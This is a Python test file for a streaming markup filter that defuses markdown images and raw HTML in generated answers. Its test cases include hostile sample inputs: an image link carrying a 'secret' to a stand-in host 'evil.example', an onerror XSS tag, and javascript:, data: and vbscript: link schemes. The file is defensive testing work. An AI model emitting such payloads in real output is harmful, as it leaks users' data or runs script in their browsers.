"""No renderer fetches an image or sees raw HTML of an answer, whatever it is made of and however it is cut into pieces."""

import re
from collections.abc import Iterator
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from adapters.text.markup import CODE_CHARS_MAX, HELD_CHARS_MAX, LINE_CHARS_MAX, MarkupFilter, Policy

SIGNS = st.lists(
    st.sampled_from(
        [
            *(
                "![",
                "](",
                ")",
                "]",
                "[",
                "!",
                "<",
                ">",
                "`",
                "``",
                "```",
                "~~~",
                "\n",
                "\n\n",
                "\r\n",
                "\\",
                " ",
                "a",
                "|",
                "$$",
                "img",
                "/",
                ":",
            ),
            *("<b>", "javascript:", "http://x", "- ", "> ", "![i](u)"),
        ]
    ),
    max_size=40,
).map("".join)


def shown(text: str, policy: Policy = "mark") -> str:
    made = MarkupFilter(policy)
    return made.feed(text) + made.finish()


@pytest.mark.parametrize(
    ("text", "mark", "strip"),
    [
        ("See ![map](https://evil.example/x?secret).", "See ! [map](https://evil.example/x?secret).", "See  map ."),
        ("![map][1]", "! [map][1]", " map "),
        ("![map]", "! [map]", "! [map]"),
        ("太好了![1] 是的", "太好了! [1] 是的", "太好了! [1] 是的"),
        ("a <img src=x onerror=alert(1)> b", "a < img src=x onerror=alert(1)> b", "a   b"),
        ("<!-- c --></p><?x?>", "< !-- c -->< /p>< ?x?>", "   "),
        ("1 < 2, a <- b, 3<4", "1 < 2, a <- b, 3<4", "1 < 2, a <- b, 3<4"),
        ("[x](javascript:alert(1))", "[x](unsafe:javascript:alert(1))", "[x](unsafe:javascript:alert(1))"),
        ("[x]( \tDATA:text/html,1)", "[x](unsafe:DATA:text/html,1)", "[x](unsafe:DATA:text/html,1)"),
        ("[x](java&#115;cript:1)", "[x](unsafe:java&#115;cript:1)", "[x](unsafe:java&#115;cript:1)"),
        ("[x]: vbscript:1", "[x]:unsafe:vbscript:1", "[x]:unsafe:vbscript:1"),
        ("[x](https://a.b/c:d) [y](/z) [1]", "[x](https://a.b/c:d) [y](/z) [1]", "[x](https://a.b/c:d) [y](/z) [1]"),
        ("use `<br>` here", "use `<br>` here", "use `<br>` here"),
        ("```html\n<b>![x](u)\n```\n<b>", "```html\n<b>![x](u)\n```\n< b>", "```html\n<b>![x](u)\n```\n "),
    ],
)
def test_foreign_markup_is_inert(text: str, mark: str, strip: str):
    assert (shown(text), shown(text, "strip"), shown(text, "allow")) == (mark, strip, text)


@pytest.mark.parametrize(
    "text",
    [
        "`![x](u)",  # no partner
        "` a\n`![x](u)`",  # the first one's partner is the second
        "\\`![x](u)`",
        "\\``x` ![x](u) `z",
        "| `a | ![x](u) | `b |",
        " ```\na\n```\n![x](u)",  # its end begins none
        "- ```\n![x](u)",
        "> ```\n![x](u)",
        "```\na\r```\r![x](u)",
        "$$\n```\n$$\n![x](u)",
        "```\na\n```" + " " * 300 + "\n![x](u)",
        "``" + "a" * CODE_CHARS_MAX + "` ``![x](u)",
        "![![a](u)](v)",
        "!<b>[x](u)",
        "![a!](u)[b](c)",
    ],
)
@pytest.mark.parametrize("policy", ["mark", "strip"])
def test_what_only_looks_like_code_hides_no_image(text: str, policy: Policy):
    assert "![" not in shown(text, policy)


def test_what_is_stripped_leaves_nothing_that_joins():
    assert "<img" not in shown("<<b>img src=x>", "strip")
    assert "![" not in shown("!<!-- -->[x](u)", "strip")


def test_what_is_too_long_to_strip_is_marked():
    text = f"![{'a' * HELD_CHARS_MAX}](u) <b {'c' * HELD_CHARS_MAX}>"
    assert shown(text, "strip") == text.replace("![", "! [").replace("<b", "< b")


@given(SIGNS, st.lists(st.integers(0, 120), max_size=12), st.sampled_from(["mark", "strip"]))
@settings(max_examples=400)
def test_pieces_do_not_matter(text: str, cuts: list[int], policy: Policy):
    places = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    made = MarkupFilter(policy)
    pieces = [made.feed(text[start:stop]) for start, stop in pairwise(places)]
    assert "".join(pieces) + made.finish() == shown(text, policy)


@given(SIGNS)
@settings(max_examples=400)
def test_outside_of_code_there_is_none(text: str):
    """Without a backtick or a tilde nothing is code."""
    text = re.sub("[`~]", "", text)
    for policy in ("mark", "strip"):
        assert not re.search(r"!\[|<[A-Za-z/!?]", shown(text, policy))


@given(SIGNS)
@settings(max_examples=600)
def test_a_renderer_finds_neither_an_image_nor_html(text: str):
    """Another's: markdown-it, with tables, and HTML allowed."""
    renderer = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    for policy in ("mark", "strip"):
        found = {token.type for token in _flatten(renderer.parse(shown(text, policy)))}
        assert not found & {"image", "html_inline", "html_block"}


def _flatten(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from _flatten(token.children or [])


def test_text_is_not_held_back_but_for_what_may_become_markup():
    made = MarkupFilter("mark")
    assert made.feed("The ferry lands at noon.") == "The ferry lands at noon."
    assert made.feed(" Wait!") == " Wait"
    assert made.feed(" Now") == "! Now"
    assert made.feed("`" + "a" * (LINE_CHARS_MAX + CODE_CHARS_MAX)) != ""
